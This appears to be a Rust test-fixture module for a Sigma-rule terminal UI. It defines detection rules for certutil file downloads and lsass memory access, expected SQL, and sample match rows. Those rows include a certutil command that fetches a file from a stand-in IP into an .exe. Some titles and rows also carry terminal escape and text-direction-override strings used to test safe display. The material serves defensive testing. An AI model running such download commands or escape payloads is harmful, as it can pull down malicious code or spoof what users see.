//! Screens made by hand: a small rule folder, compiled and run.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;

pub(super) use super::acting::Screen;
use super::why;
use crate::backend::{CompiledRule, Sql};
use crate::bridge::ir::{Expr, FieldExpr, Predicate, Test};
use crate::bridge::{
    Code, Compilation, Diagnostic, FieldResolution, Plan, ReasonCode, RejectedRoute, Resolution, RoutedScope,
    Routing, Severity,
};
use crate::evaluate::{Histogram, MatchRow, MatchTable, Summary};
use crate::ocsf::{ClassUid, FieldType, OcsfPath};
use crate::pack::{Column, FilterOp, PackPlace, RouteFilter};
use crate::sigma::{Body, Detection, Level, LogSource, Metadata, Position, Rule, SigmaField, Span, Spanned};
use crate::tui::theme::{self, Theme};
use crate::tui::worker::WholeEvent;

pub(super) static UNMAPPED: Code = Code {
    name: "unmapped_field",
    reason: Some(ReasonCode::UnmappedField),
    severity: Severity::Error,
    summary: "",
    explanation: "",
};

pub(super) static PARSE: Code = Code {
    name: "parse_error",
    reason: Some(ReasonCode::BackendCompileError),
    severity: Severity::Error,
    summary: "",
    explanation: "",
};

static UNC: Code =
    Code { name: "unc_backslashes", reason: None, severity: Severity::Warning, summary: "", explanation: "" };

pub(super) const DOWNLOAD: &str = r"title: Download through certutil
id: 6f1b9c0e-2b7a-4f57-9a51-0d2f0f0c1a11
status: test
description: A binary that manages certificates fetches a file
logsource:
    category: process_creation
    product: windows
detection:
    selection_image:
        - Image|endswith: '\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_flags:
        CommandLine|contains:
            - 'urlcache '
            - 'verifyctl '
    condition: all of selection_*
level: high
";

pub(super) const ACCESS: &str = r"title: Access to lsass from unbacked memory
logsource:
    category: process_access
    product: windows
detection:
    selection:
        TargetImage|endswith: '\lsass.exe'
        CallTrace|contains: 'UNKNOWN'
    condition: selection
level: critical
";

const SQL: &str = r#"SELECT "metadata.event_id", "time"
FROM ocsf_events
WHERE "class_uid" = 1007
  AND "activity_id" = 1
  -- selection_image
  AND (ends_with(lower("process.file.path"), '\certutil.exe')
       OR lower("process.file.internal_name") = 'certutil.exe')
  -- selection_flags
  AND (contains(lower("process.cmd_line"), 'urlcache ')
       OR contains(lower("process.cmd_line"), 'verifyctl '))
ORDER BY "time", "metadata.event_id"
"#;

/// The span of the first occurrence of `needle`.
pub(super) fn at(text: &str, needle: &str) -> Span {
    let offset = text.find(needle).unwrap();
    let line_start = text[..offset].rfind('\n').map_or(0, |at| at + 1);
    let line = u32::try_from(text[..offset].matches('\n').count() + 1).unwrap();
    let column = u32::try_from(text[line_start..offset].chars().count() + 1).unwrap();
    let length = u32::try_from(needle.chars().count()).unwrap();
    Span {
        start: Position { offset, line, column },
        end: Position { offset: offset + needle.len(), line, column: column + length },
    }
}

pub(super) fn rule(path: &str, text: &str, level: Option<Level>, body: Body) -> Arc<Rule> {
    let spanned = |value: &str| Spanned::new(value.to_owned(), Span::START);
    let field = |key: &str| {
        let line = text.lines().find_map(|line| line.trim().strip_prefix(key));
        line.map(|value| spanned(value.trim()))
    };
    Arc::new(Rule {
        path: Arc::from(Path::new(path)),
        text: text.into(),
        document: 0,
        span: Span::START,
        metadata: Metadata {
            title: field("title:"),
            level: level.map(|level| Spanned::new(level, Span::START)),
            ..Metadata::default()
        },
        logsource: LogSource {
            category: field("category:"),
            product: field("product:"),
            ..LogSource::default()
        },
        body,
        problems: Vec::new(),
    })
}

pub(super) fn event() -> Body {
    Body::Event(Detection {
        selections: Vec::new(),
        conditions: Vec::new(),
        timeframe: None,
        span: Span::START,
    })
}

pub(super) fn diagnostic(
    rule: &Rule,
    code: &'static Code,
    needle: &str,
    message: &str,
    help: &str,
) -> Diagnostic {
    Diagnostic {
        code,
        message: message.to_owned(),
        path: rule.path.to_path_buf(),
        span: at(&rule.text, needle),
        help: (!help.is_empty()).then(|| help.to_owned()),
    }
}

fn scope(logsource: &str, class: u32, activity: u32) -> RoutedScope {
    RoutedScope {
        keywords: Vec::new(),
        logsource: logsource.to_owned(),
        class_uids: vec![ClassUid(class)],
        filters: vec![
            RouteFilter {
                path: OcsfPath("activity_id".to_owned()),
                field_type: FieldType::Integer,
                list: false,
                op: FilterOp::Eq,
                value: activity.into(),
                notes: None,
            },
            RouteFilter {
                path: OcsfPath("metadata.source_type".to_owned()),
                field_type: FieldType::String,
                list: false,
                op: FilterOp::In,
                value: serde_json::json!(["windows-security", "windows-sysmon"]),
                notes: None,
            },
        ],
        place: PackPlace::default(),
    }
}

fn field(rule: &Rule, name: &str, expr: &str, resolution: Resolution) -> FieldResolution {
    FieldResolution {
        source: None,
        field: SigmaField(name.to_owned()),
        resolution,
        expr: expr.into(),
        field_type: (resolution != Resolution::Unmapped).then_some(FieldType::String),
        list: false,
        columns: Arc::default(),
        scope: Arc::default(),
        transforms: Arc::default(),
        place: None,
        uses: if rule.text.contains(name) { vec![at(&rule.text, name)] } else { Vec::new() },
    }
}

fn plan(scope: &RoutedScope, fallback_used: bool) -> Plan {
    let column =
        Column { path: OcsfPath("process.cmd_line".to_owned()), field_type: FieldType::String, list: false };
    Plan {
        scope: scope.clone().into(),
        predicate: Expr::Predicate(Predicate {
            field: SigmaField("CommandLine".to_owned()),
            source: FieldExpr::Column(column).into(),
            test: Test::Exists,
            span: Span::START,
        }),
        columns: BTreeMap::new(),
        shown: Vec::new(),
        fallback_used,
        capabilities: BTreeSet::new(),
    }
}

/// SQL whose lines stem from the lines of the rule that they quote.
fn sql(rule: &Rule) -> Sql {
    let quoted = |line: &str| {
        let literal = ["\\certutil.exe", "CertUtil.exe", "urlcache", "verifyctl"];
        let found = literal.iter().find(|l| line.contains(&l.to_lowercase()) && rule.text.contains(**l));
        found.map(|literal| at(&rule.text, literal))
    };
    Sql {
        text: SQL.to_owned(),
        predicate: String::new(),
        scope: String::new(),
        lines: SQL.lines().map(quoted).collect(),
    }
}

/// A rule that runs.
pub(super) fn executable(rule: &Arc<Rule>, fallback: bool) -> Arc<CompiledRule> {
    let scope = scope("process_creation/windows", 1007, 1);
    let rejected = RejectedRoute {
        logsource: "process_creation/*".to_owned(),
        why: "less specific".to_owned(),
        place: PackPlace::default(),
    };
    let mut fields = vec![
        field(rule, "CommandLine", "process.cmd_line", Resolution::Mapped),
        field(rule, "Image", "process.file.path", Resolution::Mapped),
        field(rule, "OriginalFileName", "process.file.internal_name", Resolution::Mapped),
    ];
    if fallback {
        fields.push(field(rule, "Zone", "raw.Zone", Resolution::RawFallback));
    }
    let compilation = Compilation {
        rule: Arc::clone(rule),
        routing: Routing { scope: Some(scope.clone().into()), rejected: vec![rejected] },
        fields,
        diagnostics: Vec::new(),
        correlation: None,
        reported: true,
        plan: Some(plan(&scope, fallback)),
    };
    Arc::new(CompiledRule { sql: Some(sql(rule)), compilation })
}

/// A rule that does not.
pub(super) fn refused(rule: &Arc<Rule>, diagnostics: Vec<Diagnostic>) -> Arc<CompiledRule> {
    let routed = diagnostics.iter().all(|d| d.code != &PARSE);
    let compilation = Compilation {
        rule: Arc::clone(rule),
        routing: Routing {
            scope: routed.then(|| scope("process_access/windows", 1007, 3).into()),
            rejected: Vec::new(),
        },
        fields: match routed {
            true => vec![
                field(rule, "CallTrace", "", Resolution::Unmapped),
                field(rule, "TargetImage", "process.file.path", Resolution::Mapped),
            ],
            false => Vec::new(),
        },
        diagnostics,
        correlation: None,
        reported: true,
        plan: None,
    };
    Arc::new(CompiledRule { sql: None, compilation })
}

pub(super) type Compiled = (Arc<Rule>, Option<Arc<CompiledRule>>);

/// The rules of most tests: matched, refused, unreadable, fallback, without a match, and hostile.
pub(super) fn rules() -> Vec<Compiled> {
    let download = rule("rules/a_certutil.yml", DOWNLOAD, Some(Level::High), event());
    let access = rule("rules/b_lsass.yml", ACCESS, Some(Level::Critical), event());
    let broken =
        rule("rules/c_new_rule.yml", "title: New rule\ndetection:\n    sel: [\n", None, Body::Unreadable);
    let zone =
        rule("rules/d_zone.yml", "title: Download from the Internet zone\n", Some(Level::Low), event());
    let quiet = rule("rules/e_bits.yml", why::BITS, Some(Level::Medium), event());
    let hostile = "title: \u{1b}[31mRed\u{202e} dna \u{1b}]0;x\u{7}\tTab\nlevel: low\n";
    let hostile = rule("rules/f_hostile\u{1b}[2J.yml", hostile, Some(Level::Low), event());
    let findings = vec![
        diagnostic(
            &access,
            &UNC,
            r"'\lsass.exe'",
            "the value begins with two backslashes, which Sigma reads as one",
            "",
        ),
        diagnostic(
            &access,
            &UNMAPPED,
            "CallTrace",
            "no alias for 'CallTrace' in process_access/windows, process_access or *",
            "add an alias for it to the pack, or permit raw.CallTrace with --raw-fallback",
        ),
    ];
    let unfinished =
        diagnostic(&broken, &PARSE, "[", "PARSE: the list that begins here has no end", "close it with ']'");
    vec![
        (Arc::clone(&download), Some(executable(&download, false))),
        (Arc::clone(&access), Some(refused(&access, findings))),
        (Arc::clone(&broken), Some(refused(&broken, vec![unfinished]))),
        (Arc::clone(&zone), Some(executable(&zone, true))),
        (Arc::clone(&quiet), Some(executable(&quiet, false))),
        (Arc::clone(&hostile), Some(executable(&hostile, false))),
    ]
}

pub(super) fn summary(matches: u64) -> Summary {
    let seen = (matches > 0).then_some(1_591_757_454_000);
    Summary { matches, first_seen: seen, last_seen: seen.map(|time| time + 1_300_000) }
}

/// `shown` rows of `matches`.
pub(super) fn table(matches: u64, shown: usize) -> MatchTable {
    MatchTable {
        summary: summary(matches),
        in_scope: Some(2_180),
        columns: vec![OcsfPath("process.file.path".to_owned()), OcsfPath("process.cmd_line".to_owned())],
        first: 0,
        rows: rows(0..shown),
        absent: Vec::new(),
        histogram: Histogram {
            minutes: 1,
            counts: (0..matches.min(22)).map(|at| (26_529_290 + 2 * at as i64, at * at % 17 + 1)).collect(),
        },
    }
}

/// Rows of a table.
pub(super) fn rows(range: std::ops::Range<usize>) -> Vec<MatchRow> {
    let commands = [
        "certutil -urlcache -f http://198.51.100.7/a.txt c:\\temp\\a.exe",
        "certutil.exe -verifyctl -split -f https://example.net/файл.bin",
        "certutil -urlcache \u{1b}[31m\u{202e}gnp.exe",
    ];
    let row = |at: usize| MatchRow {
        event_id: format!("018f{at:04x}-7c1e-7d3b-a6f0-9f0b5c0d1e2f"),
        time: Some(1_591_757_454_000 + i64::try_from(at).unwrap() * 61_000),
        host: (at % 4 != 3).then(|| format!("workstation{}", at % 7)),
        values: vec![
            Some("C:\\Windows\\System32\\certutil.exe".to_owned()),
            (at % 5 != 4).then(|| commands[at % 3].to_owned()),
        ],
    };
    range.map(row).collect()
}

/// The event of a row, as a whole.
pub(super) fn whole_event(id: &str) -> WholeEvent {
    let command = "certutil -urlcache -f http://198.51.100.7/a.txt c:\\temp\\a.exe";
    let fields = serde_json::json!({
        "activity_id": 1, "class_uid": 1007, "time": 1_591_757_454_000_i64, "message": "",
        "metadata": { "event_id": id, "source_type": "windows-sysmon", "labels": ["one", "two"] },
        "process": {
            "cmd_line": command, "pid": 4711,
            "file": { "path": "C:\\Windows\\System32\\certutil.exe" },
            "environment": format!("\u{1b}[31m{}", "PATH=C:\\Windows;".repeat(40)),
        },
    });
    let part = |path: &str, at, stretch| (OcsfPath(path.to_owned()), BTreeMap::from([(at, vec![stretch])]));
    let parts = [
        part("process.cmd_line", 0, 10..18),
        part("process.file.path", 0, 19..32),
        part("metadata.labels", 1, 0..3),
    ];
    WholeEvent { event_id: id.to_owned(), fields, parts: parts.into() }
}

/// A theme that no change of a shipped one changes, so that the pictures of the screen stay.
pub(super) fn theme(name: &str) -> Theme {
    let text = if name == "light" { include_str!("light.yaml") } else { include_str!("dark.yaml") };
    theme::of_text(text).unwrap()
}
